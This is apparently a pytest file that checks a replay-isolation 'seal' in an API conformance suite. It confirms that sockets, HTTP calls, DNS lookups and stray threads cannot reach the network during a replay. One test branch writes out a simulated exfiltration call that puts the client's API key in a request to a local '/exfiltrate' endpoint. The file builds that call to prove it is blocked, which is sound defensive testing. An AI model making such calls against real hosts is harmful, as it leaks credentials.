"""Sealed replays: no request leaves a replay, however the client tries, and none after it ends."""

from __future__ import annotations

import contextlib
import socket
import threading
import time
import urllib.request
from collections.abc import Iterator
from typing import Any

import pytest

from conformance.connectors.client import ClientAdapter, ToolLoop
from conformance.corpus.loading import Corpus
from conformance.replay.transports.base import Request
from conformance.running.runner import RunOptions, run_scenario


class Listener:
    """A server on another loopback port, which must receive nothing."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.accepted += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.close()


def _reference_then(escape: Any) -> ClientAdapter:
    """The plain reference client over HTTP, which also tries to reach the listener."""
    from http_clients import Variant, codec_client

    from conformance.reference import ADAPTER

    plain = codec_client(ADAPTER.codecs["openai-chat"], Variant())

    def client(loop: ToolLoop) -> None:
        escape(loop)
        plain(loop)

    return ClientAdapter(name="escaper", version="0", clients={"openai-chat": client})


@pytest.mark.parametrize("replay", ["in-process", "server"])
@pytest.mark.parametrize("how", ["raw-socket", "urllib", "requests-to-another-host"])
def test_nothing_reaches_another_port(how: str, replay: str, listener: Listener, corpus: Corpus) -> None:
    refused: list[BaseException] = []

    def escape(loop: ToolLoop) -> None:
        try:
            if how == "raw-socket":
                socket.create_connection(("127.0.0.1", listener.port), timeout=2).close()
            elif how == "urllib":
                urllib.request.urlopen(f"http://127.0.0.1:{listener.port}/v1/chat/completions", timeout=2)
            else:
                urllib.request.urlopen(f"http://localhost:{listener.port}/exfiltrate?key={loop.api_key}", timeout=2)
        except OSError as exc:
            refused.append(exc)

    options = RunOptions(timeout=30, replay=replay)  # type: ignore[arg-type]
    result = run_scenario(_reference_then(escape), corpus.scenarios["openai-chat/one-call"], corpus, options=options)
    time.sleep(0.3)
    assert listener.accepted == 0
    if how == "raw-socket" or replay == "server":
        assert refused, "the connection should have been refused"
    # Over vcrpy, a patched library's request is answered by the replay (and reported), never sent.
    assert result.outcome in ("pass", "fail"), result.summary


def test_a_thread_the_client_leaves_running_cannot_send_after_the_case(listener: Listener, corpus: Corpus) -> None:
    errors: list[BaseException] = []

    def escape(loop: ToolLoop) -> None:
        def later() -> None:
            time.sleep(0.5)
            try:
                socket.create_connection(("127.0.0.1", listener.port), timeout=2).close()
            except OSError as exc:
                errors.append(exc)

        threading.Thread(target=later, daemon=True).start()

    result = run_scenario(_reference_then(escape), corpus.scenarios["openai-chat/one-call"], corpus)
    assert result.outcome == "pass", result.summary
    time.sleep(1.0)
    assert listener.accepted == 0
    assert errors and isinstance(errors[0], ConnectionRefusedError)
    # This thread, which started no replay, still connects.
    socket.create_connection(("127.0.0.1", listener.port), timeout=2).close()
    time.sleep(0.3)
    assert listener.accepted == 1


def test_a_user_vcr_config_cannot_let_replay_requests_out(listener: Listener, corpus: Corpus) -> None:
    def escape(loop: ToolLoop) -> None:
        with contextlib.suppress(OSError):
            urllib.request.urlopen(f"http://127.0.0.1:{listener.port}/v1/chat/completions", timeout=2)

    options = RunOptions(timeout=30, vcr_config={"ignore_localhost": True, "ignore_hosts": ["127.0.0.1"]})
    run_scenario(_reference_then(escape), corpus.scenarios["openai-chat/one-call"], corpus, options=options)
    time.sleep(0.3)
    assert listener.accepted == 0


def test_requests_the_recording_does_not_hold_are_answered_locally_and_reported(corpus: Corpus) -> None:
    from conformance.recordings.cassette import load_cassette
    from conformance.replay.session import ReplaySession

    scenario = corpus.scenarios["openai-chat/one-call"]
    session = ReplaySession.of(scenario, load_cassette(corpus.cassette_path(scenario)), lambda exchange: [])
    answer = session.handle(Request.of("GET", "https://api.openai.com/v1/files", {}, b""))
    assert answer.status == 404
    assert session.finish().extra == ["GET /v1/files"]


@pytest.mark.parametrize("replay", ["in-process", "server"])
@pytest.mark.parametrize(
    "lookup",
    [
        lambda: socket.getaddrinfo("api.openai.com", 443),
        lambda: socket.gethostbyname("api.openai.com"),
        lambda: socket.gethostbyname_ex("api.openai.com"),
        lambda: socket.gethostbyaddr("8.8.8.8"),
    ],
    ids=["getaddrinfo", "gethostbyname", "gethostbyname_ex", "gethostbyaddr"],
)
def test_no_name_is_looked_up_while_a_replay_runs(lookup: Any, replay: str, corpus: Corpus) -> None:
    errors: list[BaseException] = []

    def escape(loop: ToolLoop) -> None:
        try:
            lookup()
        except OSError as exc:
            errors.append(exc)
        # The local host and written-out addresses ask no resolver: they still resolve.
        socket.getaddrinfo("127.0.0.1", 80)
        socket.getaddrinfo("localhost", 80)

    options = RunOptions(timeout=30, replay=replay)  # type: ignore[arg-type]
    result = run_scenario(_reference_then(escape), corpus.scenarios["openai-chat/one-call"], corpus, options=options)
    assert result.outcome == "pass", result.summary
    assert errors and "went around the conformance replay" in str(errors[0])


def test_a_client_stopped_by_the_seal_says_it_went_around_the_replay(corpus: Corpus) -> None:
    def escape(loop: ToolLoop) -> None:
        socket.create_connection(("api.openai.com", 443), timeout=2)

    result = run_scenario(_reference_then(escape), corpus.scenarios["openai-chat/one-call"], corpus)
    assert result.outcome == "error"
    assert "went around the conformance replay" in result.summary
    assert "api.openai.com" in result.summary


def test_names_resolve_again_once_the_replay_is_over(monkeypatch: pytest.MonkeyPatch) -> None:
    from conformance.replay import seal

    with seal.sealed(), pytest.raises(socket.gaierror):
        socket.getaddrinfo("api.openai.com", 443)
    # Outside a replay the lookup is the system's own (stubbed: the machine may have no resolver).
    monkeypatch.setattr(seal, "_original_getaddrinfo", lambda host, *args, **kwargs: [("resolved", host)])
    assert socket.getaddrinfo("api.openai.com", 443) == [("resolved", "api.openai.com")]
